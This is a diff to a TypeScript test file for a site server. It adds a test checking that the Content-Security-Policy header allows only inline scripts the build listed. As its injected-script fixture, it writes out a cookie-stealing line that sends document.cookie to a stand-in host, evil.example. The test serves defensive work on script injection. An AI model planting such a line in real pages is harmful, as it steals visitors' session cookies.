@@ -1,9 +1,11 @@
 // Issue 27, items 2, 3 and 6: the site server over HTTP, on a small site of its own (no build needed).
-import { chmod, mkdtemp, rm, unlink } from "node:fs/promises";
+import { chmod, mkdtemp, rm, unlink, writeFile } from "node:fs/promises";
 import type { AddressInfo } from "node:net";
+import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { defaultConfig } from "@marketing/widgets";
 import { createSiteServer, type SiteServer, type SiteServerOptions } from "./site-server";
+import { INLINE_SCRIPTS_FILE, scriptHash } from "./site-csp";
 import { writeSite, type SiteDirs } from "./test-support/site-fixture";
 import { holdSlowClients, rawStatus } from "./test-support/clients";
 
@@ -99,6 +101,25 @@ describe("byte ranges (item 6)", () => {
       const res = await get(`${url}/robots.txt`, range);
       expect(res.status, range).toBe(200);
       expect(await res.text()).toBe(whole);
+    }
+  });
+});
+
+describe("a page's script policy", () => {
+  it("allows the inline scripts the build listed, never one found in the page besides them", async () => {
+    const own = 'document.documentElement.dataset.js="1"';
+    const slipped = "fetch('https://evil.example/?' + document.cookie)";
+    await writeSite(dirs.root, {
+      "blog/a-post/index.html": `<!DOCTYPE html><html><head><script>${own}</script></head><body><article><script>${slipped}</script></article></body></html>`,
+    });
+    await writeFile(join(dirs.root, INLINE_SCRIPTS_FILE), JSON.stringify([scriptHash(own)]));
+    const { url } = await serve();
+    for (const path of ["/blog/a-post", "/about", "/nowhere"]) {
+      const policy = (await fetch(`${url}${path}`)).headers.get("content-security-policy") ?? "";
+      const scriptSrc = /script-src ([^;]*)/.exec(policy)?.[1] ?? "";
+      expect(scriptSrc, path).toContain(scriptHash(own));
+      expect(scriptSrc, path).not.toContain(scriptHash(slipped));
+      expect(scriptSrc, path).not.toContain("unsafe-inline");
     }
   });
 });
